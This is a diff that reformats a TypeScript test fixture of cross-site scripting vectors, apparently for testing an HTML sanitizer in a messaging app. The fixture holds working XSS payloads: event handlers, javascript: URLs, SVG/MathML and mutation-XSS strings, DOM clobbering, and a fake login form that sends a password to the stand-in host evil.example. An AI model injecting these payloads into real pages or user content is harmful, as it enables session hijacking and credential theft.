@@ -15,17 +15,7 @@ export interface XssVector {
   /** Unique short label (the message subject). */
   name: string;
   /** What the vector tries. */
-  family:
-    | 'script'
-    | 'event'
-    | 'url'
-    | 'svg-mathml'
-    | 'style'
-    | 'structure'
-    | 'frame'
-    | 'mutation'
-    | 'clobbering'
-    | 'evasion';
+  family: 'script' | 'event' | 'url' | 'svg-mathml' | 'style' | 'structure' | 'frame' | 'mutation' | 'clobbering' | 'evasion';
   /** The message body. */
   html: string;
 }
@@ -94,12 +84,28 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'svg onload', family: 'svg-mathml', html: `<svg onload="${RUN}"></svg>` },
   { name: 'svg script', family: 'svg-mathml', html: `<svg><script>${RUN}</script></svg>` },
   { name: 'svg script href', family: 'svg-mathml', html: `<svg><script href="data:,${RUN}"/></svg>` },
-  { name: 'svg animate href', family: 'svg-mathml', html: `<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>clic</text></a></svg>` },
+  {
+    name: 'svg animate href',
+    family: 'svg-mathml',
+    html: `<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>clic</text></a></svg>`,
+  },
   { name: 'svg set onbegin', family: 'svg-mathml', html: `<svg><set attributeName=x onbegin="${RUN}"/></svg>` },
   { name: 'svg foreignObject', family: 'svg-mathml', html: `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>` },
-  { name: 'svg use data', family: 'svg-mathml', html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>` },
-  { name: 'math href', family: 'svg-mathml', html: `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">clic</maction></math>` },
-  { name: 'math mglyph style', family: 'mutation', html: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>` },
+  {
+    name: 'svg use data',
+    family: 'svg-mathml',
+    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>`,
+  },
+  {
+    name: 'math href',
+    family: 'svg-mathml',
+    html: `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">clic</maction></math>`,
+  },
+  {
+    name: 'math mglyph style',
+    family: 'mutation',
+    html: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
+  },
   { name: 'math mi xlink', family: 'svg-mathml', html: `<math><mi xlink:href="javascript:alert(1)">x</mi></math>` },
 
   // ── style and CSS exfiltration ──────────────────────────────────────────────────────────
@@ -107,14 +113,26 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'style attr url', family: 'style', html: `<div style="background:url(https://evil.example/a.png)">fondo</div>` },
   { name: 'style expression', family: 'style', html: `<div style="width: expression(alert(1));">ie</div>` },
   { name: 'style attr escape', family: 'evasion', html: `<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>` },
-  { name: 'style overlay', family: 'style', html: `<div style="position:fixed;inset:0;z-index:99999;background:red">Tu sesión ha caducado</div>` },
-  { name: 'link stylesheet', family: 'style', html: `<link rel="stylesheet" href="https://evil.example/x.css"><link rel=import href="data:,x">` },
+  {
+    name: 'style overlay',
+    family: 'style',
+    html: `<div style="position:fixed;inset:0;z-index:99999;background:red">Tu sesión ha caducado</div>`,
+  },
+  {
+    name: 'link stylesheet',
+    family: 'style',
+    html: `<link rel="stylesheet" href="https://evil.example/x.css"><link rel=import href="data:,x">`,
+  },
   { name: 'style import', family: 'style', html: `<style>@import "https://evil.example/x.css";</style>` },
 
   // ── structure: base, form, meta, link ───────────────────────────────────────────────────
   { name: 'base href', family: 'structure', html: `<base href="https://evil.example/"><a href="x">rel</a>` },
   { name: 'base javascript', family: 'structure', html: `<base href="javascript:alert(1)//">` },
-  { name: 'form action', family: 'structure', html: `<form action="https://evil.example/"><input name=password type=password><button>Entrar</button></form>` },
+  {
+    name: 'form action',
+    family: 'structure',
+    html: `<form action="https://evil.example/"><input name=password type=password><button>Entrar</button></form>`,
+  },
   { name: 'button formaction', family: 'structure', html: `<form><button formaction="javascript:alert(1)">enviar</button></form>` },
   { name: 'input formaction', family: 'structure', html: `<input type=submit formaction="javascript:${RUN}" value=x>` },
   { name: 'isindex', family: 'structure', html: `<isindex type=image src=1 onerror="${RUN}">` },
@@ -131,7 +149,11 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'object data', family: 'frame', html: `<object data="javascript:alert(1)"></object>` },
   { name: 'object html', family: 'frame', html: `<object type="text/html" data="${DATA_HTML_B64}"></object>` },
   { name: 'embed src', family: 'frame', html: `<embed src="${DATA_HTML_B64}">` },
-  { name: 'embed svg', family: 'frame', html: `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">` },
+  {
+    name: 'embed svg',
+    family: 'frame',
+    html: `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
+  },
 
   // ── mutation XSS (parsing differences) ──────────────────────────────────────────────────
   { name: 'noscript title', family: 'mutation', html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` },
@@ -142,7 +164,11 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'textarea', family: 'mutation', html: `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>` },
   { name: 'xmp', family: 'mutation', html: `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>` },
   { name: 'svg style', family: 'mutation', html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
-  { name: 'math style', family: 'mutation', html: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></mtext></svg></mglyph></h1></mtext></math>` },
+  {
+    name: 'math style',
+    family: 'mutation',
+    html: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
+  },
   { name: 'form nesting', family: 'mutation', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>` },
   { name: 'table foster', family: 'mutation', html: `<table><a title="</table><img src=x onerror=${RUN}>">x</a></table>` },
   { name: 'cdata svg', family: 'mutation', html: `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>` },
@@ -151,8 +177,16 @@ export const XSS_VECTORS: XssVector[] = [
   // ── DOM clobbering ──────────────────────────────────────────────────────────────────────
   { name: 'clobber id', family: 'clobbering', html: `<a id="__xss" href="https://example.org">x</a><div id="root">falso</div>` },
   { name: 'clobber name', family: 'clobbering', html: `<img name="getElementById"><form name="location"></form><a name="cookie">x</a>` },
-  { name: 'clobber collection', family: 'clobbering', html: `<a id="config"></a><a id="config" name="api" href="https://evil.example/">x</a>` },
-  { name: 'clobber class', family: 'clobbering', html: `<div class="sr-only" aria-hidden="true" data-testid="user-chip">Almirante Falso</div>` },
+  {
+    name: 'clobber collection',
+    family: 'clobbering',
+    html: `<a id="config"></a><a id="config" name="api" href="https://evil.example/">x</a>`,
+  },
+  {
+    name: 'clobber class',
+    family: 'clobbering',
+    html: `<div class="sr-only" aria-hidden="true" data-testid="user-chip">Almirante Falso</div>`,
+  },
 
   // ── nested and broken markup, filter evasion ────────────────────────────────────────────
   { name: 'unclosed img', family: 'evasion', html: `<img src="x" onerror="${RUN}"` },
